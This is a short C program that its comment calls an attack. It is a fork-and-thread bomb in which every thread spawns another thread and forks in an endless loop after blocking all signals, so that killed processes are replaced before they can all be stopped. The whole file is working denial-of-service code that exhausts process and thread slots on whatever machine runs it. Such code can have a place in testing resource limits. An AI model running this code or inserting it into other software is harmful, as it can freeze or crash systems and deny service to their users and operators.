/* Attack: every thread starts a thread and forks, for ever, with every signal blocked
 * (-pthread): a tree that fills again, from its cages not yet told to stop, the slots
 * of those a kill already ended. */
#include <pthread.h>
#include <signal.h>
#include <unistd.h>

static void *flood(void *arg)
{
	for (;;) {
		pthread_t thread;
		pthread_create(&thread, NULL, flood, arg);
		fork();
	}
	return NULL;
}

int main(void)
{
	sigset_t all;
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	flood(NULL);
}
